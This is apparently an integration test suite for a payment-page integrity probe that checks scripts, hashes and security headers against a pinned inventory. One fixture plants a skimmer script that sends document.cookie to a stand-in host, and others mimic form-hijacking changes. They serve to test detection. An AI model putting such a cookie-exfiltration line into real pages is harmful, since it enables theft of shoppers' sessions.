import type { ProbeAlert } from '../../provider/payment/probe-schema';
import { startTestEmulator, ZONE_ID, type TestEmulator } from '../helpers/emulator';
import type { EngineStack } from '../helpers/engine';
import { PAYMENT_PAGES, paymentPagesStack } from '../helpers/payment-pages';
import { runToEnd } from '../helpers/process';
import { PROBE_CLI } from '../helpers/stack-commands';
import {
  assertProbeCanRun,
  ORIGIN_ADDRESS,
  runProbe,
  sha256,
  type ProbeRun,
  startProbeOrigin,
  type OriginContent,
  type ProbeOrigin,
} from './probe-origin';

/**
 * `edgeguard-probe` (issues 33 and 41) in a real Chromium, each page loaded as a desktop and as a phone: a checkout's inventory, pinning the card
 * script's hash and two security headers, and the CspPolicy that enforces it
 * (tests/engine/projects/payment-pages), deployed by the real engine against the emulator, whose
 * page security reports the two scripts; a local HTTPS origin (a certificate made at run time)
 * serves the payment page with its headers and scripts. The built command runs as a weekly job
 * would, with `--resolve` sending the page's hosts to the origin and `--insecure` for its
 * certificate. All as pinned exits 0; each change the origin makes (a script added, the card's
 * body changed for browsers only, a header removed, a header changed, the page down) exits 1 and
 * names what changed, with the loads that saw it; a script the browser received with an error status
 * did not run and is not counted (issue 43, item 7); an authorized script page security has not
 * reported is a notice, which fails the run under `--strict` only; no browser exits 2. Never skipped:
 * without Chromium the test fails.
 */

jest.setTimeout(180_000);

const TOKEN = 'browser-probe-token-5e1c0b7a';
const { host: HOST, page: PAY, card: CARD } = PAYMENT_PAGES;
const OWN = `https://${HOST}/static/js/checkout.js`;
const CARD_BODY = 'window.card = "v1";\n';
const OWN_BODY = 'window.checkout = true;\n';
const CSP = `script-src https://${HOST}/static/js/ ${CARD}; object-src 'none'; base-uri 'self'`;
const HSTS = 'max-age=63072000; includeSubDomains';

/** What the origin serves when everything is as the stack and the inventory say. */
const PINNED: OriginContent = {
  status: 200,
  headers: {
    'content-security-policy': CSP,
    'strict-transport-security': HSTS,
    'x-frame-options': 'DENY',
    'x-content-type-options': 'nosniff',
  },
  scripts: [CARD, OWN],
  bodies: { [CARD]: CARD_BODY, [OWN]: OWN_BODY },
};

let emu: TestEmulator;
let engine: EngineStack;
let origin: ProbeOrigin;

beforeAll(async () => {
  assertProbeCanRun();
  origin = await startProbeOrigin([HOST, 'js.pay.example'], PINNED, PAY);
  emu = await startTestEmulator({ tokens: [TOKEN] });
  await emu.seed({
    scripts: [
      { zone_id: ZONE_ID, url: CARD, hash: sha256(CARD_BODY), page_urls: [PAY] },
      { zone_id: ZONE_ID, url: OWN, hash: sha256(OWN_BODY), page_urls: [PAY] },
    ],
  });
  engine = await paymentPagesStack(emu, TOKEN, {
    cardHash: sha256(CARD_BODY),
    headers: { 'Strict-Transport-Security': HSTS, 'x-frame-options': 'DENY' },
  });
  await engine.up();
});
afterAll(async () => {
  await engine?.dispose();
  await emu?.close();
  await origin?.close();
});
beforeEach(() => {
  origin.content = structuredClone(PINNED);
});

/** How a probe ended, its Markdown from stdout. */
type ProbeOutcome = Omit<ProbeRun, 'stdout'> & { markdown: string };

/** The built `edgeguard-probe` on the stack as a weekly job runs it, the hosts sent to the origin. */
async function probe(...extra: string[]): Promise<ProbeOutcome> {
  const { stdout, ...run } = await runProbe(engine, TOKEN, [
    '--markdown',
    '-',
    '--resolve',
    `${HOST}:443:${ORIGIN_ADDRESS}`,
    '--resolve',
    `js.pay.example:443:${ORIGIN_ADDRESS}`,
    '--insecure',
    '--timeout',
    '20',
    '--settle',
    '0.5',
    ...extra,
  ]);
  return { ...run, markdown: stdout };
}

/** The alerts of the one page. */
function alertsOf(run: ProbeOutcome): ProbeAlert[] {
  return run.report!.inventories[0]!.pages[0]!.alerts;
}

/** Both loads of the page: the desktop's and the phone's. */
const BOTH = [
  { device: 'desktop', load: 1 },
  { device: 'phone', load: 1 },
];
const PAGE_FRAME = PAY;

test('all as pinned: exit 0, the headers and the scripts received with their hashes, the staging options said', async () => {
  const run = await probe();
  expect({ code: run.code, alerts: run.report && alertsOf(run) }).toEqual({ code: 0, alerts: [] });
  expect(run.stderr).toContain(
    `edgeguard-probe: staging options in use: --resolve ${HOST}:443:${ORIGIN_ADDRESS} js.pay.example:443:${ORIGIN_ADDRESS} (these hosts were not looked up in DNS); --insecure (certificates were not checked): for tests and staging, not a shopper's load`,
  );
  expect(run.stderr).toContain('edgeguard-probe: pass: every page loaded');
  const report = run.report!;
  expect(report).toMatchObject({
    format: 'edgeguard-probe',
    formatVersion: 2,
    passed: true,
    staging: { insecure: true },
    counts: { pages: 1, loads: 2, loaded: 2, scripts: 2, alerts: 0, notices: 0 },
  });
  expect(report.browser).toMatch(/^chrome\//i);
  const [page] = report.inventories[0]!.pages;
  expect(page).toMatchObject({ page: `${HOST}/pay`, url: PAY, loaded: true, status: 200 });
  expect(page!.headers).toEqual({
    'content-security-policy': CSP,
    'strict-transport-security': HSTS,
    'x-frame-options': 'DENY',
    'x-content-type-options': 'nosniff',
  });
  expect(page!.scripts).toEqual([
    {
      kind: 'external',
      url: OWN,
      sha256: sha256(OWN_BODY),
      frame: PAGE_FRAME,
      context: 'page',
      entry: `https://${HOST}/static/js/`,
      integrity: 'unpinned',
      pageSecurity: { reported: true, hash: sha256(OWN_BODY) },
      seenOn: BOTH,
    },
    {
      kind: 'external',
      url: CARD,
      sha256: sha256(CARD_BODY),
      frame: PAGE_FRAME,
      context: 'page',
      entry: CARD,
      integrity: 'unchanged',
      pageSecurity: { reported: true, hash: sha256(CARD_BODY) },
      seenOn: BOTH,
    },
  ]);
  expect(page!.loads.map((load) => [load.device, load.loaded, load.scripts])).toEqual([
    ['desktop', true, 2],
    ['phone', true, 2],
  ]);
  expect(run.markdown).toContain('**Pass**');
  expect(origin.requests).toEqual(expect.arrayContaining([`${HOST} /pay`, 'js.pay.example /v3/card.js']));
});

test('a script added under the checkout’s own path: a notice, page security has not reported it; it fails the run under --strict only', async () => {
  const added = `https://${HOST}/static/js/skim.js`;
  origin.content.scripts.push(added);
  origin.content.bodies[added] = 'fetch("https://collect.example/" + document.cookie);\n';
  const notice = { kind: 'script-unreported', url: added, sha256: sha256(origin.content.bodies[added]), seenOn: BOTH };
  const run = await probe();
  expect({ code: run.code, alerts: alertsOf(run), notices: run.report!.inventories[0]!.pages[0]!.notices }).toEqual({
    code: 0,
    alerts: [],
    notices: [notice],
  });
  expect(run.stderr).toContain(
    `${HOST}/pay (inventory checkout-scripts): notice: script not reported by page security: ${added} ran on the page`,
  );
  const strict = await probe('--strict');
  expect({ code: strict.code, passed: strict.report!.passed }).toEqual({ code: 1, passed: false });
});

test('scripts the browser received with an error status (404, 500) did not run: not counted, no alert (issue 43, item 7)', async () => {
  const missing = `https://${HOST}/static/js/missing.js`;
  const failing = `https://${HOST}/static/js/down.js`;
  origin.content.scripts.push(missing, failing);
  origin.content.bodies[failing] = 'window.down = true;\n';
  origin.content.statuses = { [failing]: 500 };
  const run = await probe();
  expect({ code: run.code, alerts: alertsOf(run) }).toEqual({ code: 0, alerts: [] });
  expect(run.report!.inventories[0]!.pages[0]!.scripts.map((script) => script.url)).toEqual([OWN, CARD]);
  // Both were asked for, on each device: the browser received them and ran neither.
  expect(
    origin.requests.filter((request) => request === `${HOST} /static/js/missing.js`).length,
  ).toBeGreaterThanOrEqual(2);
  expect(origin.requests.filter((request) => request === `${HOST} /static/js/down.js`).length).toBeGreaterThanOrEqual(
    2,
  );
});

test('a script from a host the CSP now allows: exit 1, the CSP header changed, the script unauthorized and unreported', async () => {
  const skimmer = 'https://js.pay.example/skim.js';
  const widened = `${CSP.replace('script-src ', 'script-src https://js.pay.example/ ')}`;
  origin.content.headers['content-security-policy'] = widened;
  origin.content.scripts.push(skimmer);
  origin.content.bodies[skimmer] = 'void "skim";\n';
  const run = await probe();
  expect(run.code).toBe(1);
  expect(alertsOf(run)).toEqual([
    {
      kind: 'header-changed',
      header: 'content-security-policy',
      expected: CSP,
      received: widened,
      pinnedBy: 'stack',
      managedBy: [{ name: 'checkout-enforce', urn: expect.stringContaining('checkout-enforce') }],
      seenOn: BOTH,
    },
    {
      kind: 'script-unauthorized',
      script: 'external',
      url: skimmer,
      sha256: sha256('void "skim";\n'),
      frame: PAGE_FRAME,
      context: 'page',
      seenOn: BOTH,
    },
  ]);
  expect(run.stderr).toContain(
    `header changed: content-security-policy expected ${CSP} (the stack's CspPolicy checkout-enforce), received ${widened}`,
  );
  expect(run.stderr).toContain(`unauthorized script: ${skimmer} ran and no entry of the inventory authorizes it`);
});

test('the card script’s body changed for browsers only: exit 1, both hashes, page security still reports the pinned one', async () => {
  const skimmed = `${CARD_BODY}document.forms[0].addEventListener("submit", () => {});\n`;
  origin.content.bodies[CARD] = skimmed;
  const run = await probe();
  expect(run.code).toBe(1);
  expect(alertsOf(run)).toEqual([
    {
      kind: 'script-changed',
      url: CARD,
      entryIndex: 0,
      pinned: sha256(CARD_BODY),
      received: sha256(skimmed),
      pageSecurity: sha256(CARD_BODY),
      pageSecurityAgrees: 'with-pin',
      seenOn: BOTH,
    },
  ]);
  expect(run.stderr).toContain(
    `pinned script changed: ${CARD} (scripts[0]) pinned ${sha256(CARD_BODY)}, received ${sha256(skimmed)}; page security still reports the pinned version: the body differs for browsers only`,
  );
  expect(run.markdown).toContain('**Alert**');
});

test('a pinned header removed and another changed: exit 1, each named with the value expected and received', async () => {
  delete origin.content.headers['strict-transport-security'];
  origin.content.headers['x-frame-options'] = 'SAMEORIGIN';
  const run = await probe();
  expect(run.code).toBe(1);
  expect(alertsOf(run)).toEqual([
    {
      kind: 'header-changed',
      header: 'strict-transport-security',
      expected: HSTS,
      received: null,
      pinnedBy: 'inventory',
      managedBy: [],
      seenOn: BOTH,
    },
    {
      kind: 'header-changed',
      header: 'x-frame-options',
      expected: 'DENY',
      received: 'SAMEORIGIN',
      pinnedBy: 'inventory',
      managedBy: [],
      seenOn: BOTH,
    },
  ]);
  expect(run.stderr).toContain(
    `header missing: strict-transport-security expected ${HSTS} (the inventory's headers), received none`,
  );
  expect(run.stderr).toContain(
    "header changed: x-frame-options expected DENY (the inventory's headers), received SAMEORIGIN",
  );
});

test('the page down: exit 1, the page did not load, and nothing else is judged', async () => {
  origin.content.status = 503;
  const run = await probe();
  expect(run.code).toBe(1);
  expect(run.report!.inventories[0]!.pages[0]).toMatchObject({ loaded: false, status: 503, scripts: [] });
  expect(alertsOf(run)).toEqual([
    { kind: 'page-unavailable', reason: expect.stringMatching(/^HTTP 503/), seenOn: BOTH },
  ]);
  expect(run.stderr).toContain(`${HOST}/pay (inventory checkout-scripts): page did not load: HTTP 503`);
});

test('no browser: exit 2 with what to install, before the stack or the service is read', async () => {
  const missing = await probe('--browser', '/nonexistent/chromium');
  expect({ code: missing.code, report: missing.report, markdown: missing.markdown }).toEqual({
    code: 2,
    report: undefined,
    markdown: '',
  });
  expect(missing.stderr).toContain(
    'edgeguard-probe: the probe could not be done: --browser /nonexistent/chromium is not an executable file',
  );

  const none = await runToEnd(process.execPath, [PROBE_CLI, '--cwd', engine.workDir], {
    env: { PATH: '/nonexistent' },
  });
  expect(none.status).toBe(2);
  expect(none.stderr).toBe(
    'edgeguard-probe: the probe could not be done: no Chromium or Chrome on PATH (looked for chromium, chromium-browser, google-chrome, google-chrome-stable, chrome): install one (apt-get install chromium) or give its path with --browser PATH\n',
  );
});
